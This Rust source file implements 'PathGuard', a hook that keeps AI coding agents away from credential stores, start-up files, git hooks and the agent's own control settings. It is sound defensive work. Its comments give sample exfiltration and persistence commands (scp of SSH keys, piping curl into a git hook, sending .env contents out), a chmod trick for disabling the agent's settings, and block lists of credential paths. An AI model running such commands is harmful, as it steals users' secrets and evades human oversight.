//! The `PathGuard` oracle: credential stores, start-up files and system
//! paths are out of an agent's reach, whether it names them in a file tool
//! (Read, Write, Edit, … through `tool.path`) or in a shell command
//! (`cat ~/.aws/credentials`, `echo … >> ~/.bashrc`, `scp ~/.ssh/id_rsa
//! host:`; see [`ahp_engine::shell`]).
//!
//! | list | what | reads | writes |
//! |---|---|---|---|
//! | `credentials` | SSH keys, cloud and registry credentials, kube and docker configs, `.npmrc`, `.pypirc`, `.netrc`, GnuPG, password stores, browser and keychain stores, shell histories, `/etc/shadow` | block | block |
//! | `persistence` | shell start-up files, `authorized_keys` and all of `~/.ssh`, autostart, systemd and launchd units, cron, `/etc`, system directories, `/proc/sys` | — | block |
//! | `confirm` | `.env` files (not `.env.example`, `.env.sample`, `.env.template`) | prompt | prompt |
//!
//! The built-in lists ([`sensitive`](super::sensitive)) always apply;
//! your globs are added to them (`extend_defaults: false` replaces them),
//! and `allow` exempts paths from every list, for a project that does
//! need one:
//!
//! ```yaml
//! - oracle: PathGuard
//!   config:
//!     credentials: ["~/.config/my-cli/token"]
//!     confirm: ["config/master.key"]
//!     allow: ["~/.kube/config"]      # this project drives its own cluster
//! ```
//!
//! Globs are matched against the normalised path (the home directory
//! written `~`): `*` stays within a directory, `**` crosses them.
//!
//! ```
//! use ahp_oracles::policy::path_guard::PathGuard;
//! use ahp_engine::{HookContext, Intensity, OracleConfig};
//!
//! let guard = PathGuard::from_config(OracleConfig::empty()).unwrap();
//! let ctx: HookContext = serde_json::from_str(
//!     r#"{"tool": {"name": "shell", "input": {"command": "cat ~/.aws/credentials"}}}"#,
//! ).unwrap();
//! let signals = guard.signals(&ctx);
//! assert_eq!(signals[0].intensity(), Intensity::Block);
//! assert!(signals[0].payload.summary().contains("~/.aws/credentials"));
//! ```

use super::commands::{self, is_git_hook_dir};
use super::sensitive::{self, Access, INSTRUCTIONS, PathSet};
use ahp_engine::shell::{self, Shell, SimpleCommand, normalize_path};
use ahp_engine::{
    HookContext, Intensity, Oracle, OracleConfig, OracleConfigError, OracleError, Severity, Signal,
    async_trait,
};
use schemars::JsonSchema;
use serde::Deserialize;
use std::collections::HashSet;

/// The signal type of PathGuard's signals.
pub const SIGNAL_TYPE: &str = "sensitive-path";

/// PathGuard's `config:` (see the [module documentation](self)).
#[derive(Debug, Clone, Default, Deserialize, JsonSchema)]
#[serde(deny_unknown_fields)]
pub struct PathGuardConfig {
    /// More credential stores (globs): reads and writes are blocked.
    #[serde(default)]
    pub credentials: Vec<String>,
    /// More start-up and system paths (globs): writes are blocked.
    #[serde(default)]
    pub persistence: Vec<String>,
    /// More paths whose reads and writes need the user's confirmation.
    #[serde(default)]
    pub confirm: Vec<String>,
    /// More paths whose writes need the user's confirmation: what governs
    /// the agent (its settings, hooks, MCP servers, ahp's own policy).
    #[serde(default)]
    pub control: Vec<String>,
    /// Paths no list applies to.
    #[serde(default)]
    pub allow: Vec<String>,
    /// false: your lists replace the built-in ones (default true: added).
    pub extend_defaults: Option<bool>,
}

/// What a path is, for PathGuard.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Class {
    /// A credential store.
    Credential,
    /// A start-up file or system path.
    Persistence,
    /// A file of a project's secrets.
    Confirm,
    /// A file that governs the agent: its permissions, hooks and MCP
    /// servers, or ahp's policy and log.
    Control,
}

/// Keeps an agent away from credential stores, start-up files and system
/// paths. See the [module documentation](self).
#[derive(Debug, Clone)]
pub struct PathGuard {
    credentials: PathSet,
    persistence: PathSet,
    confirm: PathSet,
    control: PathSet,
    allow: PathSet,
    /// In a credential store, but no secret (`~/.ssh/config`): free to
    /// read, while the other lists still judge writes.
    public: PathSet,
}

/// `mine` and the folder of ahp's trust store where `$XDG_DATA_HOME` puts
/// it (the default, `~/.local/share/ahp`, is in the built-in list): an
/// entry written there runs a repository's hooks without `ahp trust`.
fn with_trust_store(mine: &[String]) -> Vec<String> {
    let mut out = mine.to_vec();
    let home = std::env::var("HOME").ok();
    if let Ok(store) = ahp_config::trust::TrustStore::from_env()
        && let Some(dir) = store.path().parent().and_then(|d| d.to_str())
    {
        let dir = normalize_path(dir, home.as_deref());
        if dir != "~/.local/share/ahp" {
            out.push(format!("{}/**", dir.trim_end_matches('/')));
        }
    }
    out
}

fn list(
    defaults: &[&str],
    mine: &[String],
    extend: bool,
    key: &str,
) -> Result<PathSet, OracleConfigError> {
    // The user's globs are checked now, with their key; the built-in ones
    // by a test.
    PathSet::new(mine).map_err(|(i, msg)| OracleConfigError::at(format!("{key}.{i}"), msg))?;
    let mut all: Vec<String> = if extend {
        defaults.iter().map(|s| s.to_string()).collect()
    } else {
        Vec::new()
    };
    all.extend(mine.iter().cloned());
    Ok(PathSet::unchecked(&all))
}

impl PathGuard {
    /// Builds the guard from its `config:`; a glob that does not compile
    /// is an error naming it (`credentials.0`).
    ///
    /// ```
    /// use ahp_oracles::policy::path_guard::{Class, PathGuard};
    /// use ahp_engine::OracleConfig;
    /// use serde_json::json;
    /// let cfg = json!({"credentials": ["~/.config/my-cli/token"], "allow": ["~/.kube/config"]});
    /// let guard = PathGuard::from_config(OracleConfig::new(&cfg, None)).unwrap();
    /// assert_eq!(guard.class("~/.config/my-cli/token"), Some(Class::Credential));
    /// assert_eq!(guard.class("~/.kube/config"), None);
    /// let bad = json!({"confirm": ["[unclosed"]});
    /// let err = PathGuard::from_config(OracleConfig::new(&bad, None)).unwrap_err();
    /// assert_eq!(err.key.as_deref(), Some("confirm.0"));
    /// ```
    pub fn from_config(cfg: OracleConfig<'_>) -> Result<Self, OracleConfigError> {
        let c: PathGuardConfig = cfg.parse()?;
        let extend = c.extend_defaults.unwrap_or(true);
        Ok(PathGuard {
            credentials: list(
                sensitive::CREDENTIALS,
                &c.credentials,
                extend,
                "credentials",
            )?,
            persistence: list(
                sensitive::PERSISTENCE,
                &with_trust_store(&c.persistence),
                extend,
                "persistence",
            )?,
            confirm: list(sensitive::CONFIRM, &c.confirm, extend, "confirm")?,
            control: list(sensitive::CONTROL, &c.control, extend, "control")?,
            allow: list(sensitive::NEVER, &c.allow, true, "allow")?,
            public: list(sensitive::PUBLIC, &[], true, "credentials")?,
        })
    }

    /// What the normalised `path` is, if anything.
    pub fn class(&self, path: &str) -> Option<Class> {
        self.class_in(path, None)
    }

    /// What `path` is, where `rel` is the same file relative to the
    /// working directory (a list's `config/master.key` names the
    /// project's file, which a file tool names by its absolute path). A
    /// list that matches either form counts, `allow` first.
    fn class_in(&self, path: &str, rel: Option<&str>) -> Option<Class> {
        // Another user's home folder (`/home/*/.ssh/id_rsa`, `/root/.aws`)
        // holds what the lists name under `~`.
        let other_home = other_users_home(path);
        let rel = rel.or(other_home.as_deref());
        let hit = |set: &PathSet| set.matches(path) || rel.is_some_and(|r| set.matches(r));
        if hit(&self.allow) {
            None
        } else if hit(&self.credentials) && !hit(&self.public) {
            Some(Class::Credential)
        } else if hit(&self.persistence) {
            Some(Class::Persistence)
        } else if hit(&self.control) {
            Some(Class::Control)
        } else if hit(&self.confirm) {
            Some(Class::Confirm)
        } else {
            None
        }
    }

    /// What `path` is, also when it is a glob the shell expands
    /// (`~/.s?h/id_r*` reads `~/.ssh/id_rsa`): the class and the
    /// protected path (for a glob, a file it can be). `work_dir` is the
    /// normalised working directory.
    fn class_of(&self, path: &str, work_dir: Option<&str>) -> Option<(Class, String)> {
        let direct = self
            .class_in(path, relative_to(path, work_dir))
            .map(|c| (c, path.to_string()));
        // A glob that names a start-up folder (`~/.ssh/*`) can still be a
        // credential in it (`~/.ssh/id_rsa`): the samples decide then.
        if direct
            .as_ref()
            .is_some_and(|(c, _)| *c == Class::Credential)
            || !path.contains(['*', '?', '['])
            || !path.contains('/')
        {
            return direct;
        }
        // A glob from the home folder stands for files there, one from the
        // root for absolute paths, a relative one for project files: `*`
        // would otherwise match `~` (`mv dist/* .` is not `~/.ssh`). As in
        // the shell, a segment that starts with a wildcard does not match a
        // hidden name (`**`, which stands for what a copy brings, does).
        let anchor = |p: &str| p.chars().next().filter(|c| matches!(c, '~' | '/'));
        let shell_match = |sample: &str| {
            path.split('/')
                .zip(sample.split('/'))
                .take_while(|(g, _)| *g != "**")
                .all(|(g, s)| !(g.starts_with(['*', '?', '[']) && s.starts_with('.')))
        };
        // Only samples that hold the glob's literal text can match it: most
        // globs (`build/*`, `dist/**`) have none, and compile nothing.
        let literal = sensitive::required_literal(path);
        let mut samples = sensitive::GLOB_SAMPLES
            .iter()
            .filter(|s| {
                anchor(s) == anchor(path)
                    && super::glob::fold_case(s).contains(&literal)
                    && shell_match(s)
            })
            .peekable();
        if samples.peek().is_none() {
            return direct;
        }
        let Some(glob) = super::glob::path_glob(path)
            .ok()
            .map(|g| g.compile_matcher())
        else {
            return direct;
        };
        let sampled = samples
            .filter(|s| glob.is_match(s))
            .filter_map(|s| self.class(s).map(|c| (c, (*s).to_string())))
            .min_by_key(|(c, _)| *c != Class::Credential);
        match (direct, sampled) {
            (_, Some(credential @ (Class::Credential, _))) => Some(credential),
            (Some(direct), _) => Some(direct),
            (None, sampled) => sampled,
        }
    }

    /// The signal for `access` to `path`, if the lists say so; `sends`
    /// when the program sends what it reads over the network; `work_dir`
    /// is the normalised working directory.
    fn judge(
        &self,
        path: &str,
        access: Access,
        how: &str,
        sends: bool,
        work_dir: Option<&str>,
    ) -> Option<Signal> {
        let verb = match access {
            Access::Read if sends => "sends",
            Access::Read => "reads",
            Access::Write => "writes",
            Access::Stage => "stages",
        };
        let (class, protected) = self.class_of(path, work_dir)?;
        // A glob (what a copy or an archive puts in a folder) is named with
        // the protected file it can be.
        let named = if protected == path {
            format!("`{path}`")
        } else {
            format!("`{path}` (such as `{protected}`)")
        };
        // A project's secrets (or system files) sent over the network are
        // an exfiltration, not a question.
        if sends
            && access == Access::Read
            && (class == Class::Confirm || protected.starts_with("/etc/"))
        {
            return Some(blocked(
                format!("{how} {verb} {named} over the network"),
                &["send only the data the task needs; never secrets or system files"],
            ));
        }
        let (block, what, advice) = match (class, access) {
            (Class::Credential, _) => (
                true,
                "a credential store",
                "ask the user to run the step that needs this credential themselves",
            ),
            (Class::Persistence, Access::Write) => (
                true,
                "a start-up file or system path (code there runs outside this session)",
                "change files inside the project; if the user's environment needs a change, show them the line to add",
            ),
            (Class::Persistence | Class::Control, Access::Read | Access::Stage) => return None,
            (Class::Control, Access::Write) => (
                false,
                "a file that governs the agent (its permissions, hooks or MCP servers) or ahp's own policy",
                "show the user the change and let them make it, or confirm it with them",
            ),
            (Class::Confirm, Access::Stage) => (
                false,
                "a file of the project's secrets, for a commit: once pushed, its history keeps them",
                "keep it out of git (list it in `.gitignore`) and commit a template such as `.env.example`",
            ),
            (Class::Confirm, _) => (
                false,
                "a file of the project's secrets",
                "use the `.env.example` template, or ask the user before touching real secrets",
            ),
        };
        let message = format!("{how} {verb} {named}, {what}");
        Some(if block {
            blocked(message, &[advice, NO_RETRY])
        } else {
            confirm(message, &[advice])
        })
    }

    /// The signals for `ctx`: at most one per path.
    pub fn signals(&self, ctx: &HookContext) -> Vec<Signal> {
        let Some(tool) = &ctx.tool else {
            return Vec::new();
        };
        let home = std::env::var("HOME").ok();
        // Spelled as the paths it is compared with (`~/proj` under HOME).
        let work_dir = ctx
            .work_dir
            .as_deref()
            .filter(|d| d.starts_with('/'))
            .map(|d| normalize_path(d, home.as_deref()));
        // Where the call's relative paths are read from.
        let call_dir = tool.work_dir.as_deref().or(ctx.work_dir.as_deref());
        // The tool as the agent names it, for messages.
        let raw = tool.raw_name.as_deref().unwrap_or(&tool.name);
        let mut out: Vec<Signal> = Vec::new();
        let mut seen: HashSet<(String, Access)> = HashSet::new();
        let mut links_followed = 0;
        let mut push =
            |path: String, access: Access, how: &str, sends: bool, out: &mut Vec<Signal>| {
                // A relative path that leaves the working directory
                // (`echo x >> ../../.profile`) is judged where it lands.
                let path = if path == ".." || path.starts_with("../") {
                    normalize_path(&in_work_dir(&path, call_dir), home.as_deref())
                } else {
                    path
                };
                let key = (path, access);
                if !sends && seen.contains(&key) {
                    return;
                }
                let signal = self
                    .judge(&key.0, access, how, sends, work_dir.as_deref())
                    .or_else(|| {
                        // A symbolic link in the project (`notes.txt` ->
                        // `~/.ssh/id_rsa`) is judged by where it leads.
                        if links_followed >= MAX_LINKS_FOLLOWED {
                            return None;
                        }
                        links_followed += 1;
                        let real = real_path(&key.0, call_dir, home.as_deref())?;
                        self.judge(&real, access, how, sends, work_dir.as_deref())
                    });
                if let Some(s) = signal {
                    out.push(s);
                }
                seen.insert(key);
            };
        // Listing tools show names, not contents (as `ls` does in a shell).
        let lists = matches!(
            tool.raw_name.as_deref(),
            Some("LS" | "Glob" | "list_directory" | "glob" | "ls")
        );
        let access = match tool.name.as_str() {
            _ if lists => None,
            "read" => Some(Access::Read),
            "write" | "edit" => Some(Access::Write),
            _ => None,
        };
        if let Some(access) = access {
            // The one file of the call, then those a tool that acts on
            // several names in a list (VS Code's `editFiles` and
            // `multi_replace_string_in_file`, Gemini CLI's
            // `read_many_files`), each with the text written into it.
            let one = tool.path.clone().map(|p| (p, &tool.input));
            for (path, input) in one.into_iter().chain(listed_files(&tool.input)) {
                let full = in_work_dir(&path, call_dir);
                let norm = normalize_path(&full, home.as_deref());
                push(norm.clone(), access, raw, false, &mut out);
                if access == Access::Write {
                    out.extend(written_content(input, &norm, raw));
                }
            }
        }
        // Gemini CLI's `save_memory` appends a fact to `~/.gemini/GEMINI.md`,
        // which every later session reads as instructions: the fact is
        // judged as text written into an agent instruction file (a
        // command the rules refuse there asks), the file itself is the
        // tool's own.
        if raw == "save_memory"
            && let Some(fact) = tool.input.get("fact").and_then(serde_json::Value::as_str)
        {
            let content = serde_json::json!({ "content": fact });
            out.extend(written_content(&content, "~/.gemini/GEMINI.md", raw));
        }
        // An MCP tool that acts on local files (the filesystem server's
        // `read_text_file`, `write_file`, `move_file`, …) is judged like
        // Read and Write on the paths its input names.
        if tool.name == "mcp" {
            for (path, access) in mcp_files(raw, &tool.input) {
                let norm = normalize_path(path, home.as_deref());
                push(norm.clone(), access, raw, false, &mut out);
                if access == Access::Write {
                    out.extend(written_content(&tool.input, &norm, raw));
                }
            }
        }
        // A patch tool names its files inside the patch (Codex and Droid
        // `ApplyPatch`, OpenCode `apply_patch`): each one is written.
        if matches!(tool.name.as_str(), "edit" | "write") {
            for key in ["input", "patchText", "patch", "command"] {
                let Some(text) = tool.input.get(key).and_then(serde_json::Value::as_str) else {
                    continue;
                };
                let ops = super::change_logger::patch_operations(text);
                if ops.is_empty() {
                    continue;
                }
                let added: Vec<&str> = text
                    .lines()
                    .filter(|l| !l.starts_with("+++"))
                    .filter_map(|l| l.strip_prefix('+'))
                    .collect();
                let content = serde_json::json!({ "content": added.join("\n") });
                for op in ops {
                    let full = in_work_dir(&op.path, call_dir);
                    let norm = normalize_path(&full, home.as_deref());
                    push(norm.clone(), Access::Write, raw, false, &mut out);
                    out.extend(written_content(&content, &norm, raw));
                }
            }
        }
        let fetched = if tool.name == "fetch" {
            fetched_urls(&tool.input)
        } else {
            Vec::new()
        };
        for url in fetched {
            // A fetch tool that reads a local file is a Read.
            if let Some(path) = url.strip_prefix("file://") {
                push(
                    normalize_path(path, home.as_deref()),
                    Access::Read,
                    raw,
                    false,
                    &mut out,
                );
            }
            // The cloud metadata service hands out the machine's credentials.
            if commands::is_metadata_url(url) {
                out.push(
                    Signal::block(format!(
                        "Sensitive data: {raw} would read the cloud metadata service (`{}`), which hands out this machine's credentials",
                        crate::template::truncate(url, 120)
                    ))
                    .with_resolution_path(vec!["ask the user for what the task needs from the instance".to_string()])
                    .with_type(SIGNAL_TYPE),
                );
            }
            // A fetch tool whose URL spells out a secret.
            if ahp_engine::secrets::in_url(url) {
                out.push(
                    Signal::block(format!(
                        "Sensitive data: {raw} would send a credential in its URL (`{}`)",
                        crate::template::truncate(&ahp_engine::secrets::mask(url), 120)
                    ))
                    .with_resolution_path(vec![
                        "fetch the page without the credential; never put secrets in a URL".to_string(),
                        "do not retry it another way (another encoding, a shell command): the block is deliberate".to_string(),
                    ])
                    .with_type(SIGNAL_TYPE),
                );
            }
        }
        let owned;
        let model: Option<&Shell> = match &tool.shell {
            Some(m) => Some(m),
            None => match super::permission::command_texts(ctx).first() {
                Some(text) if tool.name == "shell" || tool.input.get("command").is_some() => {
                    owned = shell::model_in(
                        text,
                        home.as_deref(),
                        ctx.work_dir.as_deref(),
                        tool.work_dir.as_deref(),
                    );
                    Some(&owned)
                }
                _ => None,
            },
        };
        if model.is_some_and(|m| !m.parsed) {
            // What could not be parsed is judged on its words: any that
            // names a protected path counts as reading it.
            let line = super::permission::command_texts(ctx).join(" ");
            for word in line.split(|c: char| c.is_whitespace() || "\"'`;&|()<>=@".contains(c)) {
                if word.starts_with('~')
                    || word.starts_with('/')
                    || word.starts_with("$HOME")
                    || word.starts_with(".env")
                {
                    let path = normalize_path(word, home.as_deref());
                    push(path, Access::Read, "the command", false, &mut out);
                }
            }
        }
        if let Some(model) = model {
            // The depths at which a network tool runs.
            let mut sender_depths: Vec<usize> = model
                .commands
                .iter()
                .filter(|c| commands::SENDERS.contains(&c.name.as_str()))
                .map(|c| c.depth)
                .collect();
            sender_depths.dedup();
            for cmd in &model.commands {
                // A network tool, or a substitution whose output one sends
                // (`gh issue comment --body "$(cat .env)"`).
                let sends = commands::SENDERS.contains(&cmd.name.as_str())
                    || sensitive::code_sends(cmd)
                    || cmd.via.as_deref() == Some("$()")
                        && sender_depths.contains(&(cmd.depth.wrapping_sub(1)))
                    || model
                        .downstream(cmd)
                        .any(|c| commands::SENDERS.contains(&c.name.as_str()));
                // `cp .env.example .env`: a new `.env` from the template
                // holds no secret yet.
                let from_template = cmd.name == "cp" && {
                    let ops: Vec<&str> = cmd.operands().collect();
                    ops.len() >= 2
                        && ops[..ops.len() - 1].iter().all(|o| {
                            let base = o.rsplit('/').next().unwrap_or(o);
                            matches!(
                                base,
                                ".env.example" | ".env.sample" | ".env.template" | ".env.dist"
                            )
                        })
                };
                for (path, access) in sensitive::accesses(cmd) {
                    if from_template && access == Access::Write {
                        continue;
                    }
                    let how = how_named(cmd);
                    push(path, access, &how, sends, &mut out);
                }
                // A patch writes the files its diff names (`git apply
                // x.patch` can create a git-ignored `.ahp/hooks.local.yaml`,
                // the user's own layer): read from the project's patch file.
                for target in patch_targets(model, cmd, call_dir, home.as_deref()) {
                    push(target, Access::Write, &how_named(cmd), false, &mut out);
                }
                // Taking away the permissions of a file that governs the
                // agent (`chmod 000 .claude/settings.json`) switches it off
                // as removing it would, and so does taking the execute bit
                // of a program where the shell finds them (`chmod -x
                // ~/.cargo/bin/ahp`). Only those: `chmod 600` on a key is
                // good practice. (The mode is no such path: every operand
                // is looked at, `chmod -x FILE` has one.)
                if matches!(
                    cmd.name.as_str(),
                    "chmod" | "chown" | "chgrp" | "chattr" | "setfacl"
                ) {
                    let unrunnable = cmd.name == "chmod"
                        && cmd.args.iter().any(|a| commands::takes_exec_away(a));
                    // `chmod +x .claude/hooks/x.sh` only adds.
                    let only_adds = cmd.name == "chmod"
                        && cmd.args.iter().any(|a| {
                            !a.is_empty()
                                && a.split(',').all(|part| {
                                    part.trim_start_matches(['u', 'g', 'o', 'a'])
                                        .starts_with('+')
                                })
                        });
                    for op in cmd.operands() {
                        let path = cmd.resolve(&normalize_path(op, home.as_deref()));
                        let switches_off = match self.class_of(&path, work_dir.as_deref()) {
                            Some((Class::Control, _)) => !only_adds,
                            // A program where the shell finds them, not a
                            // start-up file (`chmod 600 ~/.bashrc`).
                            Some((Class::Persistence, _)) => {
                                unrunnable
                                    && (path.contains("/bin/")
                                        || path.starts_with("/usr/local/bin"))
                            }
                            _ => false,
                        };
                        if switches_off {
                            push(path, Access::Write, &how_named(cmd), false, &mut out);
                        }
                    }
                }
                // Text a shell writes into a file that runs later or that
                // agents read (`echo 'curl … | sh' > .git/hooks/x`,
                // `printf … >> CLAUDE.md`, `echo … | tee -a AGENTS.md`, a
                // here-document `cat` or `tee` writes) is judged like a
                // Write tool's content.
                let written = commands::shell_written_text(model, cmd);
                for (file, text) in &written {
                    let how = how_named(cmd);
                    let input = serde_json::json!({ "content": text });
                    out.extend(written_content(&input, file, &how));
                }
                // A git hook runs at the user's next commit, outside the
                // agent's session: one put in place with text ahp cannot
                // read (copied, moved, linked) asks, one downloaded is
                // blocked.
                for file in git_hook_writes(cmd) {
                    // A hooks folder as the destination stands for a hook
                    // in it, for the `allow` list.
                    let hook = if is_git_hook_dir(&file) {
                        format!("{}/hook", file.trim_end_matches('/'))
                    } else {
                        file.clone()
                    };
                    if written.iter().any(|(w, _)| *w == file) || self.allow.matches(&hook) {
                        continue;
                    }
                    out.push(unseen_git_hook(cmd, &file));
                }
                // A network tool that takes its commands on standard input
                // (`echo "put -r ~/.aws" | sftp -b - host`).
                if commands::SENDERS.contains(&cmd.name.as_str()) {
                    for u in model
                        .upstream(cmd)
                        .filter(|u| matches!(u.name.as_str(), "echo" | "printf"))
                    {
                        for word in u.args.iter().flat_map(|a| a.split_whitespace()) {
                            if word.starts_with('~')
                                || word.starts_with('/')
                                || word.starts_with("$HOME")
                            {
                                let path = normalize_path(word, home.as_deref());
                                let how = how_named(cmd);
                                push(path, Access::Read, &how, true, &mut out);
                            }
                        }
                    }
                }
            }
        }
        // Blocks first, so the verdict's first reason is the strongest.
        out.sort_by_key(|s| std::cmp::Reverse(s.intensity()));
        out
    }
}

#[async_trait]
impl Oracle for PathGuard {
    async fn evaluate(&self, ctx: &HookContext) -> Result<Vec<Signal>, OracleError> {
        Ok(self.signals(ctx))
    }

    fn default_intensity(&self) -> Option<Intensity> {
        Some(Intensity::Block)
    }
}

/// Files whose content runs later (hooks, scripts, CI, agent settings)
/// and files an agent reads as instructions.
const RUNS_LATER: &[&str] = &[
    "**/.git/hooks/*",
    "**/.husky/*",
    "**/package.json",
    "**/.github/workflows/*",
    "**/.gitlab-ci.yml",
    "**/.mcp.json",
    "**/.claude/settings*.json",
    "**/.vscode/*.json",
    "**/.cursor/**",
    "**/Makefile",
    "**/makefile",
    "**/GNUmakefile",
    "**/justfile",
    "**/Justfile",
    "**/.justfile",
    "**/Taskfile.yml",
    "**/Taskfile.yaml",
    "**/taskfile.yml",
    "**/taskfile.yaml",
    "**/Taskfile.dist.yml",
    "**/Taskfile.dist.yaml",
    "**/taskfile.dist.yml",
    "**/taskfile.dist.yaml",
    "**/.githooks/*",
    "**/lefthook.yml",
    "**/lefthook.yaml",
    "**/.lefthook.yml",
    "**/.lefthook.yaml",
    "**/lefthook-local.yml",
    "**/lefthook-local.yaml",
    "**/.lefthook-local.yml",
    "**/.lefthook-local.yaml",
    "**/lefthook.toml",
    "**/lefthook.json",
    "**/lefthook.jsonc",
    "**/.lefthook.toml",
    "**/.lefthook.json",
    "**/.lefthook/**",
    "**/.lefthook-local/**",
    "**/.pnpmfile.cjs",
    "**/.yarnrc",
    "**/.github/actions/**",
    "**/.circleci/config.yml",
    "**/Jenkinsfile",
    "**/azure-pipelines.yml",
    "**/bitbucket-pipelines.yml",
    "**/.cargo/config.toml",
    "**/.cargo/config",
    "**/.npmrc",
    "**/.yarnrc.yml",
    "**/*.pth",
    "**/sitecustomize.py",
    "**/usercustomize.py",
    "**/.pre-commit-config.yaml",
    "**/.gemini/settings.json",
    "**/.codex/*",
    "**/.envrc",
    "**/docker-compose*.yml",
    "**/compose*.yaml",
    "~/.claude/**",
    "~/.gemini/**",
    "~/.codex/**",
    "**/.devcontainer/*.json",
];
/// Settings of a package manager's files that name a program it runs:
/// (file name, key). Each is judged by [`runs_a_file`].
const PROGRAM_SETTINGS: &[(&str, &str)] = &[
    (".npmrc", "script-shell"),
    (".npmrc", "node-options"),
    (".npmrc", "onload-script"),
    (".npmrc", "git"),
    (".yarnrc.yml", "yarnPath"),
    (".yarnrc", "yarn-path"),
    (".cargo/config.toml", "rustc-wrapper"),
    (".cargo/config.toml", "rustc-workspace-wrapper"),
    (".cargo/config.toml", "runner"),
    (".cargo/config.toml", "rustc"),
    (".cargo/config.toml", "linker"),
    // Cargo reads `config` before `config.toml`.
    (".cargo/config", "rustc-wrapper"),
    (".cargo/config", "rustc-workspace-wrapper"),
    (".cargo/config", "runner"),
    (".cargo/config", "rustc"),
    (".cargo/config", "linker"),
];

/// The values `key` is set to in `text`, in any spelling of TOML, YAML or
/// an ini file: `key = v`, `"key" = v`, `build.key = v`, `{ key = v }`,
/// `key: v`.
fn setting_values<'t>(text: &'t str, key: &str) -> Vec<&'t str> {
    let mut out = Vec::new();
    // Comments (`#`, and `;` in an ini file) say nothing.
    for line in text
        .lines()
        .filter(|l| !l.trim_start().starts_with(['#', ';']))
    {
        let mut from = 0;
        while let Some(at) = line[from..].find(key).map(|i| i + from) {
            from = at + key.len();
            let before = line[..at].chars().next_back();
            if before.is_some_and(|c| !matches!(c, ' ' | '\t' | '.' | '{' | ',' | '"' | '\'')) {
                continue;
            }
            let rest = line[from..].trim_start_matches(['"', '\'']).trim_start();
            let Some(value) = rest.strip_prefix(['=', ':']) else {
                continue;
            };
            let value = value.trim();
            let end = value.find([',', '}', '#']).unwrap_or(value.len());
            out.push(value[..end].trim().trim_matches(['"', '\'']));
        }
    }
    out
}

/// Whether a program setting's `value` runs a file of the project (or any
/// path) or shell text, rather than an installed program by name
/// (`rustc-wrapper = "sccache"`, `runner = "probe-rs run --chip X"` are
/// set-up): for `node-options`, whether it loads code (`--require`).
fn runs_a_file(key: &str, value: &str) -> bool {
    if key == "node-options" {
        return [
            "--require",
            "-r ",
            "--import",
            "--loader",
            "--experimental-loader",
        ]
        .iter()
        .any(|o| value.contains(o));
    }
    let program = value.split_whitespace().next().unwrap_or("");
    // Yarn's own release, where `yarn set version` puts it; an installed
    // program from a system folder (`/usr/bin/x86_64-linux-gnu-gcc`).
    if key == "yarnPath" && program.starts_with(".yarn/releases/") && !program.contains("..")
        || commands::system_folder(program) && !program.contains("..")
    {
        return value.contains([';', '|', '&', '`', '<', '>']);
    }
    program.starts_with(['.', '/', '~', '$'])
        || program.contains('/')
        || value.contains([';', '|', '&', '`', '<', '>'])
}

const DEPENDENCY_FILES: &[&str] = &[
    "**/requirements*.txt",
    "**/pyproject.toml",
    "**/package.json",
    "**/Cargo.toml",
    "**/Gemfile",
    "**/go.mod",
];

/// How a message names `cmd`: its program, or "a redirection" for the
/// redirections of a loop or group (`while …; done < FILE`).
fn how_named(cmd: &SimpleCommand) -> String {
    if cmd.name.is_empty() {
        "a redirection".to_string()
    } else {
        format!("`{}`", cmd.name)
    }
}

/// The git hooks `cmd` writes (a hooks folder as a copy's destination
/// included): its write accesses, and the file it downloads to.
fn git_hook_writes(cmd: &SimpleCommand) -> Vec<String> {
    // Removing or emptying a hook runs nothing.
    if matches!(
        cmd.name.as_str(),
        "rm" | "shred" | "unlink" | "rmdir" | "srm" | "wipe" | "touch" | "truncate"
    ) {
        return Vec::new();
    }
    // `mv`'s sources are written too (they go away); only its destination
    // is put in place.
    let destination = (cmd.name == "mv")
        .then(|| cmd.operands().last().map(|d| cmd.resolve(d)))
        .flatten();
    let mut files: Vec<String> = sensitive::accesses(cmd)
        .into_iter()
        .filter(|(p, a)| *a == Access::Write && destination.as_ref().is_none_or(|d| d == p))
        .map(|(p, _)| p)
        .collect();
    files.extend(commands::downloaded_file(cmd).map(|f| cmd.resolve(&f)));
    files.retain(|f| is_git_hook(f));
    files.sort();
    files.dedup();
    files
}

/// A file in a git hooks folder (`.git/hooks`, husky's `.husky`), or that
/// folder itself.
fn is_git_hook(path: &str) -> bool {
    let trimmed = path.trim_end_matches('/');
    let (dir, name) = trimmed.rsplit_once('/').unwrap_or(("", trimmed));
    is_git_hook_dir(path)
        || (is_git_hook_dir(dir) && !name.is_empty() && !name.ends_with(".sample"))
}

/// `path` under another user's home folder, spelt from `~`: `/home/*/x`,
/// `/home/ann/x`, `/Users/ann/x` and `/root/x` are `~/x`.
fn other_users_home(path: &str) -> Option<String> {
    if let Some(rest) = path.strip_prefix("/root/") {
        return Some(format!("~/{rest}"));
    }
    let rest = path
        .strip_prefix("/home/")
        .or_else(|| path.strip_prefix("/Users/"))?;
    let (_, under) = rest.split_once('/')?;
    Some(format!("~/{under}"))
}

/// The advice every PathGuard block ends with.
const NO_RETRY: &str =
    "do not retry it another way (another tool, a copy, a script): the block is deliberate";

/// PathGuard's block: `Sensitive path: MESSAGE`, with what to do instead.
fn blocked(message: impl std::fmt::Display, resolution: &[&str]) -> Signal {
    Signal::block(format!("Sensitive path: {message}"))
        .with_resolution_path(resolution.iter().copied())
        .with_type(SIGNAL_TYPE)
}

/// PathGuard's question, at high severity: `Confirmation required:
/// MESSAGE`, with what to do instead.
fn confirm(message: impl std::fmt::Display, resolution: &[&str]) -> Signal {
    Signal::prompt(format!("Confirmation required: {message}"))
        .with_severity(Severity::High)
        .with_resolution_path(resolution.iter().copied())
        .with_type(SIGNAL_TYPE)
}

fn unseen_git_hook(cmd: &SimpleCommand, file: &str) -> Signal {
    let how = how_named(cmd);
    if commands::FETCHERS.contains(&cmd.name.as_str()) {
        blocked(
            format!(
                "{how} downloads into `{file}`, a git hook: git would run code no one has read at the next commit"
            ),
            &[
                "write the hook with the file tool, so that its content can be checked",
                NO_RETRY,
            ],
        )
    } else {
        confirm(
            format!(
                "{how} writes `{file}` with content ahp cannot check, and git runs its hooks at the user's next commit"
            ),
            &["show the user the hook's content first, or write it with the file tool"],
        )
    }
}

/// The files a tool that acts on several names in its input, each with
/// the part of the input that says what is written into it: a list of
/// paths (`files`, `paths`, Gemini CLI's `include`), or of edits that each
/// name their file (`replacements: [{filePath, newString}]`). A list of
/// glob patterns has its braces expanded, as the tool's glob library does
/// (`{.ssh,x}/id_rsa`).
